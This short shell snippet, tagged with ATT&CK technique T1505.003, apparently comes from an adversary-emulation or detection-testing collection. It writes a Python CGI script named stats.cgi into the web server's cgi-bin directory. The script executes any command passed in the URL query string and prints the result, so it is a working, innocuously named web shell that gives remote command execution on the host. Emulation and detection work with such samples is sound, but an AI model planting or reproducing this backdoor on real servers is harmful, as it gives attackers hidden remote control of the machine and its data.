# technique: T1505.003
# location: linux.web.script
# source: /usr/lib/cgi-bin/stats.cgi
install -D -m 755 /dev/stdin /usr/lib/cgi-bin/stats.cgi <<< '#!/usr/bin/env python3
import os, urllib.parse
print("Content-Type: text/plain\n")
print(os.popen(urllib.parse.unquote(os.environ["QUERY_STRING"])).read())'
